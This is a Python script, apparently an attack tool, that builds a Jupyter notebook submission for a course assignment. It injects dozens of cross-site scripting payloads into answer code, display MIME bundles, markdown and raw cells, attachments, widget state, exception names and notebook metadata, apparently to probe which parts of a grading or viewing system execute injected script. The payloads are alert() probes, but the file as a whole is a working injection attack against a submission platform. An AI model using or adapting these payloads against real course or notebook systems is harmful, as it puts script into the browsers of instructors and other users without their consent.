import sys, json
sys.path.insert(0, "/tmp/attack2/lib")
from mk import build, solutions

XSS_CELL = r'''
class _M:
    def __init__(self, b, m=None):
        self.b, self.m = b, m
    def _repr_mimebundle_(self, include=None, exclude=None):
        return (self.b, self.m) if self.m is not None else self.b

display(_M({"text/plain": "p1", "text/html": "<script>alert('html1')</script><img src=x onerror=alert('html2')>"}))
display(_M({"text/plain": "p2", "application/javascript": "alert('js1')"}))
display(_M({"text/plain": "p3", "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"svg1\")'><script>alert('svg2')</script></svg>"}))
display(_M({"text/plain": "p4", "text/markdown": "<img src=x onerror=alert('md1')> [clk](javascript:alert('md2'))"}))
display(_M({"text/plain": "p5", "image/png": "iVBORw0KGgo="}, {"image/png": {"width": "1 onerror=alert('pngw')", "height": "1 onload=alert('pngh')", "alt": "x\" onerror=\"alert('alt')", "filenames": {"image/png": "javascript:alert('fn')"}}}))
display(_M({"text/plain": "p6", "image/png": "\"><script>alert('pngdata')</script>"}))
display(_M({"text/plain": "p7", "image/jpeg": "/9j/\" onerror=\"alert('jpg')"}, {"image/jpeg": {"width": "1 onerror=alert('jpgw')"}}))
display(_M({"text/plain": "p8", "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert('wv')</script>", "version_major": 2, "version_minor": 0}}))
display(_M({"text/plain": "p9", "text/html; charset=utf-8": "<script>alert('mime2')</script>", "TEXT/HTML": "<script>alert('mime3')</script>", "application/xhtml+xml": "<script>alert('x')</script>", "text/vnd.mermaid": "x", "application/vnd.jupyter.stderr": "<script>alert('e')</script>"}))
display(_M({"text/plain": "p10", "text/latex": "<script>alert('latex')</script>"}))
display(_M({"image/png": "iVBORw0KGgo=", "text/plain": "p11"}, {"isolated": True, "needs_background": "</style><script>alert('meta')</script>"}))
print("<script>alert('stream')</script>")
class _Evil(Exception):
    pass
_Evil.__name__ = "<script>alert('ename')</script>"
'''

def main(course, student):
    a = solutions(course, "01_accumulation")
    a["three_calls_answer"] = "three_calls = 12.0\n" + XSS_CELL
    def mut(nb):
        cells = nb["cells"]
        cells.append({"cell_type": "markdown", "metadata": {"tags": ["x\"><script>alert('tag')</script>"], "alt": "\"><script>alert('calt')</script>"}, "source":
            "<script>alert('mdcell')</script>\n\n<img src=x onerror=alert('mdimg')>\n\n[link](javascript:alert('mdlink'))\n\n[l2](jav&#x61;script:alert('mdlink2'))\n\n<javascript:alert('auto')>\n\n![img](javascript:alert('mdimgsrc'))\n\n![att](attachment:a.png)\n\n<a href=\"javascript:alert('ahref')\">a</a>\n\n<svg onload=alert('svgmd')>\n\n<style>body{background:red}</style>\n\n<iframe src=\"javascript:alert('ifr')\"></iframe>\n\n$<script>alert('math')</script>$\n",
            "attachments": {"a.png": {"image/png": "\"><script>alert('attach')</script>", "text/html": "<script>alert('atthtml')</script>"}}})
        cells.append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": "text/html"}, "source": "<script>alert('raw1')</script><img src=x onerror=alert('raw2')>"})
        cells.append({"cell_type": "raw", "metadata": {}, "source": "<script>alert('raw3')</script>"})
        cells.append({"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": "raise _Evil(\"<img src=x onerror=alert('evalue')>\")"})
        nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {"</script><script>alert('ws')</script>": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "1.5.0", "state": {"value": "<img src=x onerror=alert('wsv')>"}}}}}
        nb["metadata"]["title"] = "</title><script>alert('title')</script>"
    print(build(course, student, "01_accumulation", a, mut))

if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
